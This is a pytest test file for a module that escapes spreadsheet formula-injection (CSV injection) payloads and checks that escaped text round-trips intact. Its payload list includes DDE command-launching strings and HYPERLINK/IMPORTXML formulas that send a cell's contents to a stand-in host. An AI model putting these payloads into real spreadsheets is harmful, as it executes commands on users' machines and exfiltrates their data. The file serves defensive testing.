"""No text runs in a spreadsheet, and each comes back as it was."""

from __future__ import annotations

import random

import pytest

from argosy.platform.data.sheets.formulas import quote, unquote

PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"ok")', '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
    "=10+20+cmd|' /C calc'!A0", "DDE (\"cmd\";\"/C calc\";\"x\")\t=1", "|calc",
    "%0A-3+3+cmd|' /C'!D2",
    ";=1+1", "a;=1+1", 'x",=1', "＝1+1", "＋1", "－1", "＠SUM(1)", " =1+1", "\u00a0=1+1",
    "\ufeff=1",     "\u3000=1+1", "a\n=1+1", "a\r\n+1", "a\t@x", "'=1+1", "''=1", "+8613800138000",
)  # fmt: skip


def runs(cell: str) -> bool:
    """Whether a spreadsheet would take a cell, or a part behind any separator, for a formula."""
    parts = [""]
    for character in cell:
        if character in ";,\t|\r\n":
            parts.append("")
        else:
            parts[-1] += character
    starts = tuple("=+-@＝＋－＠%")
    return any(p.lstrip(" \u00a0\u3000\ufeff\u200b").startswith(starts) for p in parts) or (
        bool(cell) and cell[0] in "\t\r\n|"
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_runs_and_each_comes_back(payload: str) -> None:
    assert runs(payload) or payload.startswith("'"), "the control: bare, it would run"
    assert not runs(quote(payload))
    assert unquote(quote(payload)) == payload


def test_plain_texts_stay_as_they_are() -> None:
    for text in ("", "O'Neil", "'quoted'", "a-b", "a=b", "50 %", "5 + 3", "中文", "a, b; c"):
        assert quote(text) == text
        assert unquote(text) == text


def test_what_people_quote_by_hand_is_read_as_meant() -> None:
    assert unquote("'+86 10 8518 5555") == "+86 10 8518 5555"
    assert quote("+86 10 8518 5555") == "'+86 10 8518 5555"


def test_every_text_comes_back() -> None:
    seed = random.randrange(10**9)
    print("seed", seed)
    chance = random.Random(seed)
    for _ in range(20_000):
        text = "".join(
            chance.choice("=+-@'\t\r\n;,|% aé＝\"\\0") for _ in range(chance.randrange(9))
        )
        assert unquote(quote(text)) == text
        assert not runs(quote(text))
